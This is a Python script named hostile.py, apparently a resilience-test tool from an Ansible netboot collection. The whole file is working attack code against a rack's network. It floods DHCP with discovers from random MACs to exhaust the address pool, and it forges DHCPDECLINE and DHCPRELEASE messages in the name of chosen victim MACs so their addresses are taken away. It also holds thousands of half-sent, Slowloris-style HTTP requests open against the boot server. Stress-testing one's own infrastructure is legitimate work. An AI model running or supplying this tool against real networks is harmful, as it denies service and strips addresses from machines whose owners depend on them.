"""A hostile machine on a rack's network, until it is ended: strangers' questions and forged refusals by DHCP, and requests by HTTP
that are never ended. Prints a line of JSON for each second: how often it has done what.

    hostile.py INTERFACE BOOT_HOST OWN_ADDRESS [MAC ADDRESS]...

Each MAC ADDRESS is a machine in whose name it says that the address is taken, and gives it back.
"""

from __future__ import annotations

import contextlib
import dataclasses
import ipaddress
import json
import socket
import sys
import time
from collections import Counter

from ansible_collections.kindling.flatcar.plugins.module_utils._netboot import firmware, packet, wire

QUESTIONS, CONNECTIONS = 100, 200  # a second
MOST_CONNECTIONS = 4000


def question(mac: bytes) -> packet.Packet:
    return firmware.discover(firmware.FIRMWARES[0], mac, wire.random_xid())


def forged(message: packet.Message, mac: str, address: str, boot_host: str) -> packet.Packet:
    """What takes an address from a machine, by who says that he is that machine."""
    own = ipaddress.IPv4Address(address)
    options = {packet.MESSAGE_TYPE: bytes((message,)), packet.SERVER_ID: ipaddress.IPv4Address(boot_host).packed}
    if message == packet.Message.DECLINE:
        return dataclasses.replace(
            question(packet.mac_bytes(mac)), options=options | {packet.REQUESTED_ADDRESS: own.packed}
        )
    return dataclasses.replace(question(packet.mac_bytes(mac)), options=options, client=own)


def main() -> None:
    interface, boot_host, own, *victims = sys.argv[1:]
    done: Counter[str] = Counter()
    held: list[socket.socket] = []
    with wire.Wire(interface) as cable:
        while True:
            for _ in range(QUESTIONS):
                cable.send(question(wire.random_mac()))
                done["questions"] += 1
            for mac, address in zip(victims[::2], victims[1::2], strict=True):
                for message in (packet.Message.DECLINE, packet.Message.RELEASE):
                    cable.send(forged(message, mac, address, boot_host))
                    done["forged"] += 1
            for _ in range(CONNECTIONS):
                with contextlib.suppress(OSError):
                    connection = socket.create_connection((boot_host, 80), 5, (own, 0))
                    connection.sendall(b"GET /boot.ipxe HTTP/1.1\r\nHost: a\r\nX-Never: ")
                    held.append(connection)
                    done["half-sent"] += 1
            while len(held) > MOST_CONNECTIONS:
                held.pop(0).close()
            print(json.dumps(done), flush=True)
            time.sleep(1)


if __name__ == "__main__":
    main()
